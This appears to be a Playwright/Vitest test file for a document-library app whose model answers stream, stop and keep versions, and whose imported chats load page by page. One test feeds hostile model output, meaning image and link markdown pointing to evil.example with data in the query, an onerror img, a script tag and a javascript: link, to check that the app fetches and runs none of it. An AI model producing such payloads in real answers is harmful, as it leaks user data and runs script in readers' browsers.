import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Behaviour, openScriptedModel, says } from '../kit/scripted-model.ts';
import { audit } from './audit.ts';
import { type App, dropFiles, patience, startApp, waitReady } from './kit.ts';

let app: App;
beforeAll(async () => {
  app = await startApp();
}, patience);
afterAll(() => app?.stop(), patience);

const lease = `Lease of the workshop in Mill Lane.

The rent is 450 crowns a month and is paid on the first day of the month.

The tenant may end the lease with a notice period of three months, in writing.
`;

/** Says the same words again and again, slowly, for as long as anybody listens. */
function trickles(words: string, times: number, ms: number): Behaviour {
  return async (response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    const delta = {
      id: 'x',
      model: 'scripted-1',
      choices: [{ index: 0, delta: { content: words }, finish_reason: null }],
    };
    for (let time = 0; time < times && !response.destroyed; time += 1) {
      response.write(`data: ${JSON.stringify(delta)}\n\n`);
      await new Promise((resolve) => setTimeout(resolve, ms));
    }
    response.end();
  };
}

/** The library with one document, and a scripted server as its language model. */
async function openWithModel(...behaviours: Behaviour[]): Promise<{ page: Page; errors: string[] }> {
  const server = await openScriptedModel(...behaviours);
  const opened = await app.openPage();
  const { page } = opened;
  await page.getByRole('navigation', { name: 'Main' }).waitFor();
  await call(page, 'settings/update', { languageAddress: server.address, languageModel: 'maker/small' });
  if ((await call(page, 'library/counts', {})).documents === 0) {
    await dropFiles(page, [{ name: 'Lease.txt', text: lease }]);
    await waitReady(page, 'Lease');
  }
  await page.goto(new URL('#/ask', page.url()).href);
  return opened;
}

/** A procedure, called as the page does. */
function call(page: Page, path: string, input: unknown) {
  return page.evaluate(
    async ([at, json]) => {
      const headers = { 'content-type': 'application/json' };
      const response = await fetch(`/rpc/${at}`, { method: 'POST', headers, body: JSON.stringify({ json }) });
      return (await response.json()).json;
    },
    [path, input] as const,
  );
}

/** Chooses a file of conversations and waits until it is taken in. */
async function importFile(page: Page, value: unknown): Promise<void> {
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'More about conversations' }).click();
  await page.getByRole('menuitem', { name: 'Import a file…' }).click();
  const buffer = Buffer.from(JSON.stringify(value));
  await (await chooser).setFiles({ name: 'conversations.json', mimeType: 'application/json', buffer });
  await page.getByText('1 conversation imported').waitFor();
}

async function ask(page: Page, question: string) {
  await page.getByLabel('Your question').fill(question);
  await page.keyboard.press('Enter');
  return page.getByRole('article').filter({ has: page.getByRole('heading', { name: question }) });
}

test('words are seen before the end, stopping keeps them, another answer and other words are versions', {
  timeout: 4 * patience,
}, async () => {
  const { page, errors } = await openWithModel(trickles('The rent is 450 crowns a month [1]. ', 400, 50));
  const question = 'How much is the rent?';
  const turn = await ask(page, question);
  await turn.getByText('450 crowns').first().waitFor();
  expect(await turn.getAttribute('aria-busy')).toBe('true');

  // Coming back in the middle goes on with the same answer.
  await page.reload();
  await turn.getByText('450 crowns').first().waitFor();
  await page.getByRole('button', { name: 'Stop', exact: true }).waitFor();
  await page.keyboard.press('Escape');
  await turn.getByText('Stopped here.').waitFor();
  await page.getByRole('button', { name: 'Ask', exact: true }).waitFor();
  expect(await turn.textContent()).toContain('450 crowns');

  const server = await openScriptedModel(says('It is 450 crowns a month. [1]'));
  await call(page, 'settings/update', { languageAddress: server.address });
  await turn.getByRole('button', { name: 'Try again' }).click();
  await turn.getByText('2/2').waitFor();
  await turn.getByRole('button', { name: 'Previous version of this answer' }).click();
  await turn.getByText('Stopped here.').waitFor();
  await turn.getByRole('button', { name: 'Next version of this answer' }).click();
  await turn.getByText('It is 450 crowns a month.').waitFor();

  await turn.getByRole('heading', { name: question }).hover();
  await turn.getByRole('button', { name: 'Ask in other words' }).click();
  await page.getByLabel('The question in other words').fill('What does the workshop cost?');
  await page.keyboard.press('Enter');
  const edited = page
    .getByRole('article')
    .filter({ has: page.getByRole('heading', { name: 'What does the workshop' }) });
  await edited.getByText('It is 450 crowns a month.').waitFor();
  await edited.getByRole('button', { name: 'Previous version of this question' }).click();
  await page.getByRole('heading', { name: question }).waitFor();
  expect(await audit(page)).toEqual([]);
  expect(errors).toEqual([]);
  await page.close();
});

test('what a model writes fetches nothing, runs nothing and opens nothing by itself', {
  timeout: 3 * patience,
}, async () => {
  const hostile = [
    'The rent is 450 crowns. [1]',
    '![secret](http://evil.example/p.png?q=450)',
    '<img src="http://evil.example/i.png" onerror="document.title=1"><script>document.title = "run"</script>',
    '[look](http://evil.example/long/way?q=450) and [run](javascript:document.title=2)',
    '[p]: http://evil.example/p2.png\n\n![r][p]',
  ].join('\n\n');
  const { page } = await openWithModel(says(hostile));
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  const streamed = await ask(page, 'What is the rent of the workshop?');
  await streamed.getByText('450 crowns').first().waitFor();
  await page.getByRole('button', { name: 'Ask', exact: true }).waitFor();
  // What was imported was never looked at by whatever checks answers.
  const at = '2025-01-01T00:00:00Z';
  const chat_messages = [
    { uuid: 'h', text: 'What did it say?', sender: 'human', created_at: at },
    { uuid: 'a', text: hostile, sender: 'assistant', created_at: at },
  ];
  await importFile(page, [{ uuid: 'hostile', name: 'Hostile', created_at: at, chat_messages }]);
  await page.getByRole('link', { name: 'Hostile' }).click();
  const turn = page.getByRole('article').filter({ has: page.getByRole('heading', { name: 'What did it say?' }) });
  await turn.getByText('secret (http://evil.example/p.png?q=450)').waitFor();
  await turn.getByText('<script>').first().waitFor();
  expect(await page.getByRole('article').locator('img, script, iframe, a, [style*="url"]').count()).toBe(0);
  await turn.getByRole('button', { name: 'look' }).click();
  const dialog = page.getByRole('dialog', { name: 'Open this address?' });
  await dialog.getByText('/long/way?q=450').waitFor();
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  expect(await turn.getByRole('button', { name: 'run' }).count()).toBe(0);
  expect(await page.title()).not.toMatch(/run|1|2/);
  const host = new URL(page.url()).host;
  expect(requests.filter((url) => !url.startsWith('blob:') && new URL(url).host !== host)).toEqual([]);
  await page.close();
});

test('a conversation of 2,000 messages is read page by page, found by its words, and renamed', {
  timeout: 4 * patience,
}, async () => {
  const { page, errors } = await openWithModel(says('Yes.'));
  const messages = Array.from({ length: 1000 }, (_, at) => [
    { uuid: `h${at}`, text: `Question number ${at}?`, sender: 'human', created_at: '2025-01-01T00:00:00Z' },
    {
      uuid: `a${at}`,
      text: `Answer number ${at}.\n\n- one\n- two`,
      sender: 'assistant',
      created_at: '2025-01-01T00:00:00Z',
    },
  ]).flat();
  const claude = [{ uuid: 'c1', name: 'A long talk', created_at: '2025-01-01T00:00:00Z', chat_messages: messages }];
  await importFile(page, claude);
  const list = page.getByRole('region', { name: 'Conversations' });
  await list.getByRole('link', { name: 'A long talk' }).click();
  await page.getByRole('heading', { name: 'Question number 999?' }).waitFor();
  expect(await page.getByRole('article').count()).toBeLessThan(20);

  // What is loaded above does not move what is read.
  const thread = page.locator('[data-thread]');
  for (let step = 0; step < 6; step += 1) {
    await thread.hover();
    await page.mouse.wheel(0, -4000);
    await page.waitForTimeout(150);
  }
  const numbers = await page.getByRole('article').getByRole('heading').allInnerTexts();
  const at = numbers.map((text) => Number(/\d+/.exec(text)?.[0]));
  expect(at).toEqual(at.map((_, index) => (at[0] ?? 0) + index));
  expect(at.length).toBeLessThan(40);
  await page.getByRole('button', { name: '↓ To the end' }).click();
  await page.getByRole('heading', { name: 'Question number 999?' }).waitFor();

  await list.getByLabel('Search in conversations').fill('"number 123"');
  const found = page.getByRole('list', { name: 'Found in conversations' }).getByRole('link').first();
  await found.click();
  await page.getByRole('heading', { name: 'Question number 123?' }).waitFor();
  await list.getByLabel('Search in conversations').fill('');
  await page
    .getByRole('banner')
    .or(page.locator('header'))
    .getByRole('button', { name: 'More about A long talk' })
    .first()
    .click();
  await page.getByRole('menuitem', { name: 'Rename…' }).click();
  await page.getByLabel('Title').fill('The long talk');
  await page.keyboard.press('Enter');
  await list.getByRole('link', { name: 'The long talk' }).waitFor();
  expect(errors).toEqual([]);
  await page.close();
});
